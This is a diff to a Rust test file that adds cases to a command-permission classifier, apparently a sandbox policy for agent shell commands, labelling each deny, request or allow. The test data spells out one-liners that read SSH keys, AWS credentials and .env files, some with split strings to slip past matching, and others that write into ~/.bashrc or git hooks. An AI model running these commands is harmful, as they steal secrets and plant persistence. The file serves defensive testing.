@@ -862,6 +862,35 @@ fn container_mounts_name_the_hosts_files(#[case] script: &str, #[case] expected:
 )]
 #[case("git log -1 --format=x --output .git/hooks/pre-commit", "deny")]
 #[case("tar czf ~/.zshrc README.md", "deny")]
+#[case(
+    "awk 'BEGIN{print \"x\" >> ENVIRON[\"HOME\"] \"/.bashrc\"}'",
+    "request"
+)]
+#[case(
+    "ruby -e 'puts File.read(File.join(Dir.home, \".aws\", \"credentials\"))'",
+    "request"
+)]
+#[case(
+    "python3 -c 'import os; print(open(os.path.join(os.environ[\"HOME\"], \".ssh\", \"id_rsa\")).read())'",
+    "request"
+)]
+#[case("python3 -c 'print(open(\".e\" + \"nv\").read())'", "request")]
+#[case(
+    "python3 -c 'import pathlib; print((pathlib.Path.home() / \".aws\" / \"credentials\").read_text())'",
+    "request"
+)]
+#[case(
+    "lua -e 'f = io.open(\".e\" .. \"nv\"); print(f:read(\"a\"))'",
+    "request"
+)]
+#[case(
+    "python3 -c 'import os; open(os.path.join(\".git\", \"hooks\", \"post-merge\"), \"w\").write(\"x\")'",
+    "request"
+)]
+#[case(
+    "python3 -c 'import os; print(os.path.join(\"a\", \"b\") + \" ok\")'",
+    "allow"
+)]
 #[case("curl -so .git/hooks/post-checkout https://example.com/h", "deny")]
 #[case("wget -qO ~/.bashrc https://example.com/rc", "deny")]
 // Everyday spellings of the same tools stay allowed.
